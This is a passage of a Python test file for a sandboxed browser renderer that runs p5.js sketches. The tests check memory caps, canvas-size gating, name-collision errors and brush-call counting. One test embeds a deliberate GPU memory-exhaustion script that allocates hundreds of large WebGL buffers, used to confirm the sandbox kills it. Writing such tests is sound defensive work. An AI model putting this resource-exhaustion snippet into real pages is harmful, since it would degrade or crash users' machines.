        print(f"\nV8 heap hog: {res.status} {res.js_errors[:1]} in {res.wall_s:.1f} s")
        assert res.status == "error"
        ok(r.render(BLANK, 0, SIZE, 30, 1))


def test_a_page_whose_webgl_memory_passes_the_cap_in_the_gpu_process_is_killed():
    """WebGL buffers live in the GPU process, beyond the page's renderer cap: the GPU process is
    capped too. The page allocates them without the harness (the benchmark's bare page: the harness
    would refuse the raw WebGL calls), so this measures the watch, not the harness."""
    hog = """async function setup() {
  createCanvas(600, 600, WEBGL);
  const gl = drawingContext, keep = [];
  for (let i = 0; i < 400; i++) {
    const b = gl.createBuffer(); gl.bindBuffer(gl.ARRAY_BUFFER, b);
    gl.bufferData(gl.ARRAY_BUFFER, new Float32Array(8e6), gl.STATIC_DRAW);
    gl.drawArrays(gl.POINTS, 0, 1); keep.push(b);
    await new Promise((r) => setTimeout(r, 5));
  }
}"""
    with Renderer(gl_backend="llvmpipe", memory_cap_mb=768, mode="bare") as r:
        res = r.render(hog, 0, SIZE, 120, 1)
        assert res.status == "error" and res.js_errors[0].startswith("memory cap: the GPU process"), res.js_errors
        assert any(x.startswith("memory: GPU process") for x in res.refused)
        ok(r.render(BLANK, 0, SIZE, 30, 1))  # a new browser: the next render is not charged for it


def test_wrong_canvas_size_fails_the_gate_from_the_png(renderer):
    from brushrl.config import GateConfig
    from brushrl.gate.runtime import check_runtime

    res = ok(renderer.render(SKELETON.replace("createCanvas(600, 600", "createCanvas(640, 480"), 0, SIZE, 30, 1))
    assert Image.open(io.BytesIO(res.png)).size == (640, 480)
    assert check_runtime(res, GateConfig(), SIZE).verdict == "wrong_canvas_size"


def test_p5_global_collision_is_a_clear_error_not_a_hang(renderer):
    t = time.monotonic()
    res = renderer.render("function log() {}\n" + SKELETON, 0, SIZE, 90, 1)
    assert res.status == "error" and "log" in res.js_errors[0] and time.monotonic() - t < 45  # a hang: 90 s


def test_brush_calls_are_counted_in_the_page(renderer):
    res = ok(renderer.render(HEAVY, 3, SIZE, 60, 1))
    assert res.brush_calls["fill"] == 19 and res.brush_calls["vertex"] == 72 and res.brush_calls["circle"] == 1
    assert res.brush_calls["fillBleed"] == 15 and "Polygon" not in res.brush_calls
    assert res.cpu_s > 0.1 and res.peak_rss_mb > 50

